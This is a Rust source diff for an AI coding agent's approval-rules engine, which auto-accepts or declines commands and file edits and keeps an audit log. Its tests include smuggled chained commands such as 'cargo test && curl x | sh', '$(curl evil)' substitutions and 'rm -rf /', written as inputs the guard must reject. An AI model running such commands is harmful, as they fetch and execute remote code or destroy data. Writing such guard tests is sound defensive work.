@@ -0,0 +1,524 @@
+use glob::{MatchOptions, Pattern};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::{
+    fs::{self, OpenOptions},
+    io::Write,
+    path::{Component, Path},
+};
+
+pub const APPROVAL_RULES_SETTINGS_NAME: &str = "approval_rules.json";
+const AUDIT_ROTATE_BYTES: u64 = 2 * 1024 * 1024;
+// Allow rules never auto-approve commands that chain, background, redirect or
+// expand: a prefix only vouches for the first program, and a permissive regex
+// tail like `( .*)?` would vouch for anything after it.
+const SHELL_CONTROL_CHARS: [char; 5] = [';', '&', '|', '<', '>'];
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", default)]
+pub struct CommandRule {
+    pub prefix: Option<String>,
+    pub regex: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", default)]
+pub struct ApprovalRules {
+    pub enabled: bool,
+    pub command_allow: Vec<CommandRule>,
+    pub command_deny: Vec<CommandRule>,
+    pub file_allow: Vec<String>,
+    pub file_deny: Vec<String>,
+    pub max_diff_lines: Option<usize>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FileChangeSummary {
+    pub path: String,
+    // None when the change carries no diff to count.
+    pub diff_lines: Option<usize>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ApprovalSubject {
+    Command { command: String },
+    FileChange { changes: Vec<FileChangeSummary> },
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AutoDecision {
+    pub decision: &'static str,
+    pub rule: String,
+    pub summary: String,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ApprovalAuditEntry {
+    pub at: String,
+    pub runtime_id: String,
+    pub request_id: u64,
+    pub method: String,
+    pub thread_id: Option<String>,
+    pub decision: String,
+    pub rule: String,
+    pub summary: String,
+}
+
+impl ApprovalSubject {
+    pub fn summary(&self) -> String {
+        match self {
+            ApprovalSubject::Command { command } => command.clone(),
+            ApprovalSubject::FileChange { changes } => changes
+                .iter()
+                .map(|change| change.path.as_str())
+                .collect::<Vec<_>>()
+                .join(", "),
+        }
+    }
+}
+
+impl CommandRule {
+    fn describe(&self) -> String {
+        match (&self.prefix, &self.regex) {
+            (Some(prefix), _) => format!("prefix '{prefix}'"),
+            (None, Some(regex)) => format!("regex '{regex}'"),
+            (None, None) => "empty rule".to_string(),
+        }
+    }
+
+    // Regexes must match the whole command, not just some substring of it.
+    fn compile(&self) -> Result<Option<Regex>, String> {
+        self.regex
+            .as_deref()
+            .map(|regex| {
+                Regex::new(&format!("^(?:{regex})$"))
+                    .map_err(|e| format!("invalid command regex '{regex}': {e}"))
+            })
+            .transpose()
+    }
+
+    fn matches(&self, command: &str, allow: bool) -> bool {
+        if allow && has_shell_control(command) {
+            return false;
+        }
+        if let Some(prefix) = self.prefix.as_deref().filter(|prefix| !prefix.is_empty()) {
+            let on_boundary = command
+                .strip_prefix(prefix)
+                .is_some_and(|rest| rest.is_empty() || rest.starts_with(' '));
+            if on_boundary {
+                return true;
+            }
+        }
+        matches!(self.compile(), Ok(Some(regex)) if regex.is_match(command))
+    }
+}
+
+// A minimal shell tokenize: control operators count unless quoted, and
+// substitutions count anywhere but inside single quotes. Line breaks and
+// unterminated quotes are always treated as control.
+fn has_shell_control(command: &str) -> bool {
+    let mut chars = command.chars().peekable();
+    let mut quote: Option<char> = None;
+    while let Some(ch) = chars.next() {
+        if ch == '\n' || ch == '\r' {
+            return true;
+        }
+        match quote {
+            Some('\'') => {
+                if ch == '\'' {
+                    quote = None;
+                }
+                continue;
+            }
+            Some(_) if ch == '"' => {
+                quote = None;
+                continue;
+            }
+            _ => {}
+        }
+        match ch {
+            '\\' => {
+                chars.next();
+            }
+            '`' => return true,
+            '$' if matches!(chars.peek(), Some('(' | '{')) => return true,
+            '\'' | '"' if quote.is_none() => quote = Some(ch),
+            _ if quote.is_none() && SHELL_CONTROL_CHARS.contains(&ch) => return true,
+            _ => {}
+        }
+    }
+    quote.is_some()
+}
+
+fn compile_globs(globs: &[String]) -> Result<Vec<Pattern>, String> {
+    globs
+        .iter()
+        .map(|glob| Pattern::new(glob).map_err(|e| format!("invalid path glob '{glob}': {e}")))
+        .collect()
+}
+
+impl ApprovalRules {
+    pub fn validate(&self) -> Result<(), String> {
+        for rule in self.command_allow.iter().chain(&self.command_deny) {
+            if rule.prefix.as_deref().unwrap_or("").is_empty() && rule.regex.is_none() {
+                return Err("command rules need a prefix or a regex".to_string());
+            }
+            rule.compile()?;
+        }
+        compile_globs(&self.file_allow)?;
+        compile_globs(&self.file_deny)?;
+        Ok(())
+    }
+}
+
+fn value_at<'a>(value: &'a Value, path: &str) -> Option<&'a Value> {
+    path.split('.')
+        .try_fold(value, |current, key| current.get(key))
+        .filter(|value| !value.is_null())
+}
+
+fn command_text(value: &Value) -> Option<String> {
+    match value {
+        Value::String(command) => Some(command.trim().to_string()),
+        Value::Array(parts) => {
+            let parts = parts
+                .iter()
+                .map(|part| part.as_str().map(str::to_string))
+                .collect::<Option<Vec<_>>>()?;
+            Some(parts.join(" "))
+        }
+        _ => None,
+    }
+    .filter(|command| !command.is_empty())
+}
+
+fn diff_lines(change: &Value) -> Option<usize> {
+    ["diff", "unified_diff", "unifiedDiff", "content"]
+        .iter()
+        .find_map(|key| change.get(key).and_then(Value::as_str))
+        .map(|diff| diff.lines().count())
+}
+
+fn file_changes(value: &Value) -> Option<Vec<FileChangeSummary>> {
+    match value {
+        Value::Array(changes) => changes
+            .iter()
+            .map(|change| {
+                let path = change.get("path").and_then(Value::as_str)?;
+                Some(FileChangeSummary {
+                    path: path.to_string(),
+                    diff_lines: diff_lines(change),
+                })
+            })
+            .collect(),
+        // Older servers send `{ path: change }` maps.
+        Value::Object(changes) => Some(
+            changes
+                .iter()
+                .map(|(path, change)| FileChangeSummary {
+                    path: path.clone(),
+                    diff_lines: diff_lines(change),
+                })
+                .collect(),
+        ),
+        _ => None,
+    }
+    .filter(|changes: &Vec<FileChangeSummary>| !changes.is_empty())
+}
+
+// Approval params may carry the command or changes directly; newer servers
+// only reference the item, which the caller looks up from `item/started`.
+pub fn extract_subject(
+    method: &str,
+    params: &Value,
+    item: Option<&Value>,
+) -> Option<ApprovalSubject> {
+    let sources = [Some(params), item].into_iter().flatten();
+    if method.contains("commandExecution") {
+        sources
+            .flat_map(|source| ["command", "item.command"].map(|path| value_at(source, path)))
+            .flatten()
+            .find_map(command_text)
+            .map(|command| ApprovalSubject::Command { command })
+    } else {
+        sources
+            .flat_map(|source| {
+                ["changes", "fileChanges", "item.changes"].map(|path| value_at(source, path))
+            })
+            .flatten()
+            .find_map(file_changes)
+            .map(|changes| ApprovalSubject::FileChange { changes })
+    }
+}
+
+// None for absolute paths outside the workspace; relative paths are taken to
+// be relative to it already.
+fn relative_path(workspace: &str, path: &str) -> Option<String> {
+    let path = Path::new(path);
+    if !path.is_absolute() {
+        return Some(path.to_string_lossy().to_string());
+    }
+    path.strip_prefix(Path::new(workspace))
+        .ok()
+        .map(|relative| relative.to_string_lossy().to_string())
+}
+
+fn glob_options() -> MatchOptions {
+    MatchOptions {
+        case_sensitive: true,
+        require_literal_separator: true,
+        require_literal_leading_dot: false,
+    }
+}
+
+// Deny rules win over allow rules; anything not fully covered by an allow
+// rule is left for a human.
+pub fn evaluate(
+    rules: &ApprovalRules,
+    subject: &ApprovalSubject,
+    workspace: &str,
+) -> Option<AutoDecision> {
+    if !rules.enabled {
+        return None;
+    }
+    match subject {
+        ApprovalSubject::Command { command } => {
+            let decide = |decision, list: &str, index: usize, rule: &CommandRule| AutoDecision {
+                decision,
+                rule: format!("{list}[{index}]: {}", rule.describe()),
+                summary: command.clone(),
+            };
+            if let Some((index, rule)) = rules
+                .command_deny
+                .iter()
+                .enumerate()
+                .find(|(_, rule)| rule.matches(command, false))
+            {
+                return Some(decide("decline", "commandDeny", index, rule));
+            }
+            rules
+                .command_allow
+                .iter()
+                .enumerate()
+                .find(|(_, rule)| rule.matches(command, true))
+                .map(|(index, rule)| decide("accept", "commandAllow", index, rule))
+        }
+        ApprovalSubject::FileChange { changes } => {
+            let deny = compile_globs(&rules.file_deny).ok()?;
+            let allow = compile_globs(&rules.file_allow).ok()?;
+            // Globs are written against the workspace; nothing outside it is
+            // theirs to approve.
+            let paths = changes
+                .iter()
+                .map(|change| relative_path(workspace, &change.path))
+                .collect::<Option<Vec<_>>>()?;
+            let summary = paths.join(", ");
+            // `**` would happily match `..`, so never let such paths through.
+            if paths.iter().any(|path| {
+                Path::new(path)
+                    .components()
+                    .any(|component| matches!(component, Component::ParentDir))
+            }) {
+                return None;
+            }
+            for path in &paths {
+                if let Some(pattern) = deny
+                    .iter()
+                    .find(|pattern| pattern.matches_with(path, glob_options()))
+                {
+                    return Some(AutoDecision {
+                        decision: "decline",
+                        rule: format!("fileDeny: {}", pattern.as_str()),
+                        summary,
+                    });
+                }
+            }
+            let total_lines = changes
+                .iter()
+                .map(|change| change.diff_lines)
+                .sum::<Option<usize>>();
+            // A change of unknown size cannot be held to the limit, so it is
+            // left for a human.
+            if let Some(max_lines) = rules.max_diff_lines {
+                if total_lines.is_none_or(|lines| lines > max_lines) {
+                    return None;
+                }
+            }
+            let covered = paths.iter().all(|path| {
+                allow
+                    .iter()
+                    .any(|pattern| pattern.matches_with(path, glob_options()))
+            });
+            covered.then(|| AutoDecision {
+                decision: "accept",
+                rule: match total_lines {
+                    Some(lines) => format!("fileAllow ({lines} diff lines)"),
+                    None => "fileAllow".to_string(),
+                },
+                summary,
+            })
+        }
+    }
+}
+
+pub fn append_audit(path: &Path, entry: &ApprovalAuditEntry) -> Result<(), String> {
+    if fs::metadata(path).is_ok_and(|meta| meta.len() > AUDIT_ROTATE_BYTES) {
+        fs::rename(path, path.with_extension("1.jsonl"))
+            .map_err(|e| format!("failed to rotate approval audit log: {e}"))?;
+    }
+    let mut line = serde_json::to_string(entry)
+        .map_err(|e| format!("failed to serialize approval audit entry: {e}"))?;
+    line.push('\n');
+    OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)
+        .and_then(|mut file| file.write_all(line.as_bytes()))
+        .map_err(|e| format!("failed to append approval audit entry: {e}"))
+}
+
+// Newest first; unreadable lines are skipped rather than failing the listing.
+pub fn read_audit(path: &Path, limit: usize) -> Result<Vec<ApprovalAuditEntry>, String> {
+    if !path.exists() {
+        return Ok(Vec::new());
+    }
+    let raw =
+        fs::read_to_string(path).map_err(|e| format!("failed to read approval audit log: {e}"))?;
+    Ok(raw
+        .lines()
+        .rev()
+        .filter_map(|line| serde_json::from_str(line).ok())
+        .take(limit)
+        .collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn rules() -> ApprovalRules {
+        ApprovalRules {
+            enabled: true,
+            command_allow: vec![
+                CommandRule {
+                    prefix: Some("git status".to_string()),
+                    regex: None,
+                },
+                CommandRule {
+                    prefix: None,
+                    regex: Some(r"cargo (test|check)( .*)?".to_string()),
+                },
+            ],
+            command_deny: vec![CommandRule {
+                prefix: None,
+                regex: Some(r".*rm -rf.*".to_string()),
+            }],
+            file_allow: vec!["src/**/*.rs".to_string(), "docs/*.md".to_string()],
+            file_deny: vec!["**/.env".to_string()],
+            max_diff_lines: Some(20),
+        }
+    }
+
+    fn command(command: &str) -> Option<&'static str> {
+        let subject = ApprovalSubject::Command {
+            command: command.to_string(),
+        };
+        evaluate(&rules(), &subject, "/ws").map(|decision| decision.decision)
+    }
+
+    #[test]
+    fn evaluates_command_rules() {
+        assert!(rules().validate().is_ok());
+        assert_eq!(command("git status"), Some("accept"));
+        assert_eq!(command("git status --short"), Some("accept"));
+        assert_eq!(command("git statusx"), None);
+        assert_eq!(command("git status; curl evil"), None);
+        assert_eq!(command("cargo test -p rail"), Some("accept"));
+        assert_eq!(command("echo cargo test"), None);
+        assert_eq!(command("git status && rm -rf /"), Some("decline"));
+        assert_eq!(command("cargo test && curl x | sh"), None);
+        assert_eq!(command("cargo check > /tmp/out"), None);
+        assert_eq!(command("git status & curl -o /tmp/x evil"), None);
+        assert_eq!(command("cargo test & rm x"), None);
+        assert_eq!(command("git status\rcurl evil"), None);
+        assert_eq!(command("cargo test ${IFS}x"), None);
+        assert_eq!(command("cargo test \"$(curl evil)\""), None);
+        assert_eq!(command("cargo test 'unterminated"), None);
+        assert_eq!(command("git status -- 'a;b' \"c&d\""), Some("accept"));
+        assert_eq!(command("cargo test -- 'x|y'"), Some("accept"));
+
+        let subject = extract_subject(
+            "item/commandExecution/requestApproval",
+            &json!({ "itemId": "i1" }),
+            Some(&json!({ "command": ["git", "status"] })),
+        );
+        assert_eq!(
+            subject,
+            Some(ApprovalSubject::Command {
+                command: "git status".to_string()
+            })
+        );
+    }
+
+    #[test]
+    fn evaluates_file_change_rules() {
+        let changes = |paths: &[(&str, usize)]| {
+            let changes = paths
+                .iter()
+                .map(|(path, lines)| json!({ "path": path, "diff": "+x\n".repeat(*lines) }))
+                .collect::<Vec<_>>();
+            extract_subject(
+                "item/fileChange/requestApproval",
+                &json!({ "changes": changes }),
+                None,
+            )
+            .unwrap()
+        };
+        let decide = |subject: &ApprovalSubject| {
+            evaluate(&rules(), subject, "/ws").map(|decision| decision.decision)
+        };
+
+        assert_eq!(
+            decide(&changes(&[("/ws/src/a/lib.rs", 5), ("docs/x.md", 2)])),
+            Some("accept")
+        );
+        assert_eq!(decide(&changes(&[("/ws/src/main.rs", 30)])), None);
+        assert_eq!(decide(&changes(&[("/ws/README.md", 1)])), None);
+        let unsized_change = extract_subject(
+            "item/fileChange/requestApproval",
+            &json!({ "changes": [{ "path": "/ws/src/lib.rs", "kind": "update" }] }),
+            None,
+        )
+        .unwrap();
+        assert_eq!(decide(&unsized_change), None);
+        assert_eq!(decide(&changes(&[("/ws/src/../../etc/x.rs", 1)])), None);
+        assert_eq!(
+            decide(&changes(&[("/ws/src/lib.rs", 1), ("/ws/app/.env", 1)])),
+            Some("decline")
+        );
+
+        let mut anywhere = rules();
+        anywhere.file_allow = vec!["**/*.rs".to_string()];
+        let decide_anywhere = |subject: &ApprovalSubject| {
+            evaluate(&anywhere, subject, "/ws").map(|decision| decision.decision)
+        };
+        assert_eq!(
+            decide_anywhere(&changes(&[("/ws/src/lib.rs", 1)])),
+            Some("accept")
+        );
+        assert_eq!(
+            decide_anywhere(&changes(&[("/ws/src/lib.rs", 1), ("/etc/cron.rs", 1)])),
+            None
+        );
+
+        let mut disabled = rules();
+        disabled.enabled = false;
+        assert_eq!(
+            evaluate(&disabled, &changes(&[("/ws/src/lib.rs", 1)]), "/ws"),
+            None
+        );
+    }
+}